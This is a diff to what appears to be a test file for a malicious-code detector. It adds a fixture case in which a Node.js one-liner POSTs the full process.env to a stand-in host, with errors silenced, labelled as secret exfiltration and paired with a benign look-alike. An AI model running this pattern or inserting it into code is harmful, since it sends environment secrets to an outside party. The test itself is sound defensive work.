@@ -5,6 +5,12 @@ import { errors, shell, warnings } from './acts.ts'
 /** Name, the kind that must be found at error level, the attack, and honest code that looks like it. */
 const CASES: readonly (readonly [name: string, kind: string, attack: string, honest: string])[] = [
   [
+    'a request that is listened to before it ends',
+    'secret-exfiltration',
+    `require('https').request({ host: 'in.some-site.net', path: '/i', method: 'POST' }).on('error', () => {}).end(JSON.stringify({ e: process.env }))`,
+    `require('https').request({ host: 'api.some-site.net', path: '/i', method: 'POST' }).on('error', () => {}).end(JSON.stringify({ v: process.version }))`,
+  ],
+  [
     'eval of base64',
     'decode-execute',
     `eval(atob("Y29uc29sZS5sb2coMSk="))`,
